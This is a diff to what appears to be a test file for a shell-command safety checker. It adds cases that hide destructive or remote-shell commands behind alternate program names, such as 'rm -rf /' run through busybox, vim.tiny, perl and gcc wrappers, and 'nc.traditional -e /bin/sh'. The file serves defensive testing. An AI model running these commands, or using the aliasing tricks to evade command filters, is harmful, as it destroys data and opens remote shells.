@@ -217,6 +217,28 @@ export x=$y
 [[ $x -eq 1 ]]
 echo ${'${!x}'}
 echo ${'${x@P}'}`,
+  'by another name of a program that starts others': String.raw`
+x86_64 rm -rf /
+i386 sh -c 'rm -rf /'
+uclampset -m 1 rm -rf /
+run0 rm -rf /
+switch_root / rm -rf /
+memusage rm -rf /
+lksh -c 'rm -rf /'
+busybox hush -c 'rm -rf /'
+bash-static -c "rm -rf /"
+sudo.ws rm -rf /
+nc.openbsd -l 1
+nc.traditional -e /bin/sh host 1
+vim.tiny -c '!rm -rf /'
+perl5.36-x86_64-linux-gnu -e 'system "rm -rf /"'
+python3.11-dbg -c 'x'
+x86_64-linux-gnu-gcc -wrapper rm,-rf,/ x.c
+editor x
+zless x
+rg --pre /bin/rm x
+fdfind -x rm -rf /
+hg --config alias.x='!rm -rf /' x`,
   'in another dialect': String.raw`
 repeat 1 rm -rf /
 noglob rm -rf /
